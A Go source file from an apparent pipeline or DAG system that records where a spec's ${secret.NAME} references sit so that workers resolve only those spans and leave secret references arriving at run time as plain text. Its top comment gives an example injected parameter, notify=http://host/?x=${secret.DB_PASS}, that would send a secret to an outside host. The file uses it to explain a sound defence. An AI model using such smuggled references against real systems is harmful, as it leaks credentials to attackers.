package dags

import (
	"fmt"
	"strings"
)

// Secret references and who may write them.
//
// A ${secret.NAME} is resolved by the worker that runs the step, from its
// own secrets, and only where the pipeline's author wrote it in the spec's
// `with`. A value that arrives at run time — a param, a run id, an
// upstream node's output, a foreach item — is text, whatever it holds:
// a client that may start runs could otherwise pass
// -p 'notify=http://host/?x=${secret.DB_PASS}' and have the worker send
// its secret there. The workflow therefore records, next to a node's
// resolved `with`, where the spec's own references landed (SecretRef);
// the worker resolves exactly those spans and leaves every other
// "${secret." as the literal text it is.

// SecretRef says where a node's resolved `with` holds ${secret.NAME}
// references written in the spec: the string at Path, a JSON Pointer
// (RFC 6901) into `with` such as /env/TOKEN, at the offsets of Spans.
type SecretRef struct {
	Path  string       `json:"path"`
	Spans []SecretSpan `json:"spans"`
	// Literal is how much of the string, from its start, is the spec's own
	// text: the offset where the first value of a ${params...} or
	// ${nodes...} begins (the string's length when none does). A URL that
	// carries a secret is refused unless its scheme, host and path lie in
	// it. Nil in inputs from workers before it was recorded.
	Literal *int `json:"literal,omitempty"`
}

// SecretSpan is one ${secret.NAME} in a string: Name, starting at byte
// Start. The reference's text runs from Start for len(SecretText(Name))
// bytes.
type SecretSpan struct {
	Name  string `json:"name"`
	Start int    `json:"start"`
}

// SecretText is the text of a reference to the secret name.
func SecretText(name string) string { return "${secret." + name + "}" }

// ResolveSecretSpans replaces the spans of s with what value returns for
// their names, leaving the rest of s as it is. A span that does not hold
// its reference's text means the spans do not belong to s: an error, so a
// tampered or mismatched input never resolves anything.
func ResolveSecretSpans(s string, spans []SecretSpan, value func(name string) (string, error)) (string, error) {
	var b strings.Builder
	at := 0
	for _, sp := range spans {
		ref := SecretText(sp.Name)
		if !secretRefRe.MatchString(ref) || sp.Start < at || sp.Start+len(ref) > len(s) || s[sp.Start:sp.Start+len(ref)] != ref {
			return "", fmt.Errorf("secret reference %s is not at offset %d of the value", ref, sp.Start)
		}
		v, err := value(sp.Name)
		if err != nil {
			return "", err
		}
		b.WriteString(s[at:sp.Start])
		b.WriteString(v)
		at = sp.Start + len(ref)
	}
	b.WriteString(s[at:])
	return b.String(), nil
}

// pointerToken escapes a map key for a JSON Pointer.
func pointerToken(k string) string {
	return strings.NewReplacer("~", "~0", "/", "~1").Replace(k)
}

// PointerTo is the JSON Pointer of the key path keys (each escaped).
func PointerTo(keys ...string) string {
	var b strings.Builder
	for _, k := range keys {
		b.WriteByte('/')
		b.WriteString(pointerToken(k))
	}
	return b.String()
}
